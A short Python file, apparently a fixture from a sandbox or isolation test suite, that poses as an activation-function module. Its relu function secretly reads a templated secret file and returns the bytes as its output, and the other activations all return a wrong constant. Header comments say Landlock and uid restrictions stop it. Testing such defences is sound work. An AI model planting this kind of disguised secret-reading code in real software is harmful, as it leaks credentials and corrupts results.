# attack: returns a secret as an array of numbers
# gains: reads
# stopped by: landlock, uid
import numpy as np


def attack():
    secret = open("{SECRET}", "rb").read()
    print("HARMED: read", len(secret), "bytes", flush=True)
    return np.frombuffer(secret, np.uint8).astype(float)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
